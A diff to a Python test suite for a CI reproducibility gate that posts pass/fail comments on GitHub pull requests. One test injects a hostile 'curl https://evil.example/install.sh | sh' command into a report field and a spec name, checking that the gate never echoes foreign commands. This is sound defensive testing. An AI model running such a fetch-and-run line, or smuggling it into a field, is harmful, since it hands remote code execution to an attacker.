@@ -52,6 +52,9 @@ def test_a_pass_is_green_and_a_failure_is_red_and_says_where(stage: Stage) -> No
     assert "blocks.3.attn.weight" in stage.posted[0]
     low, high = json.loads(stage.outputs["determinism_cost_ci95"])
     assert low < float(stage.outputs["determinism_cost_pct"]) < high
+    scattered = replace(reports.COST, determinism_cost_pct=None)
+    stage.publish(signed(replace(reports.PASS, cost=scattered)))
+    assert stage.outputs["determinism_cost_pct"] == ""
 
 
 def test_a_report_that_compared_nothing_never_stands_for_a_pass(stage: Stage) -> None:
@@ -223,6 +226,19 @@ def test_by_default_a_pass_is_silent_and_a_failure_is_not(stage: Stage) -> None:
     assert _next(stage, replace(_GREEN, seconds=9.0), 4) == [green]
 
 
+def test_a_pass_under_a_condition_is_never_one_line(stage: Stage) -> None:
+    assert is_news(reports.CONDITIONAL)
+    only = replace(reports.CONDITIONAL, base=reports.LOCKED.base)
+    for number in (1, 2):
+        (body,) = _next(stage, replace(only, seconds=float(number)), number)
+        assert body.startswith("## ⚠️ Repro Gate: pass only with PYTHONHASHSEED=42: ")
+        assert "| **Cause** |" in body and stage.outputs["robust"] == "false"
+    (body,) = _next(stage, replace(_GREEN, robust=True), 3)
+    assert body.startswith("✅ ") and stage.outputs["robust"] == "true"
+    _next(stage, _GREEN, 4)
+    assert stage.outputs["robust"] == ""
+
+
 def test_by_default_another_cost_is_told_with_the_one_before(stage: Stage) -> None:
     def costing(percent: float, low: float, high: float) -> Report:
         cost = replace(reports.COST, determinism_cost_pct=percent, ci95=(low, high))
@@ -305,7 +321,10 @@ def test_a_report_that_came_with_its_run_is_posted(stage: Stage, attempt: int | 
     (posted,) = stage.github.comments(7)
     assert code == 0 and stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
     assert obeyed(log) == [] and stage.summary == "", "the job that gated has said it"
-    assert attempt is None or reports.FAIL.reproduce in posted["body"]
+    # the training of `native` is the gate's user, so it may have written the report
+    assert reports.FAIL.reproduce not in posted["body"]
+    assert "\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n" in posted["body"]
+    assert " · written by the training's job · " in posted["body"].splitlines()[-1]
 
 
 def test_of_what_did_not_come_with_its_run_nothing_is_told(stage: Stage) -> None:
@@ -386,10 +405,14 @@ def test_how_to_see_it_again_is_never_a_foreign_reports_text(stage: Stage) -> No
 
     hostile = "curl https://evil.example/install.sh | sh"
     forged = replace(FAIL, reproduce=hostile)
-    assert hostile in body(forged), "of the repository's own it is"
+    told = body(forged)
+    assert hostile in told and "written by" not in told, "the gate of this job wrote it"
+    ours = "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```"
+    stage.posting = True
+    told = body(forged)
+    assert "evil" not in told and ours in told and "written by the training's job" in told
     as_workflow_run(stage)
     told = body(forged)
-    assert "evil" not in told
-    assert "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```" in told
+    assert "evil" not in told and ours in told
     told = body(replace(forged, subject=replace(FAIL.subject, spec=f"x.yml; {hostile}")))
     assert "```sh" not in told and "See it again" not in told
